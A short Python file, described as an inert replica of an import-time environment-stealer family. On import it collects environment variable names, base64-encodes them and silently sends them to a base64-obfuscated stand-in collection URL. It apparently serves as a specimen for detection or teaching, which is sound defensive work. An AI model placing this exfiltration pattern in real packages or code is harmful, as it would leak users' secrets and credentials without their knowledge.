# Replica of the import-time environment stealer family (inert): on import,
# the names of all environment variables (the real ones send the values) are
# encoded and sent to a collection URL whose address is stored base64-encoded.
# The address decodes to https://collect.example.invalid/ and never resolves.
import base64
import os
import urllib.request

_U = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC8="
env = os.environ
_names = ",".join(sorted(env.keys()))
collector_url = base64.b64decode(_U).decode()
try:
    urllib.request.urlopen(collector_url + "?e=" + base64.urlsafe_b64encode(_names.encode()).decode(), timeout=2)
except Exception:
    pass
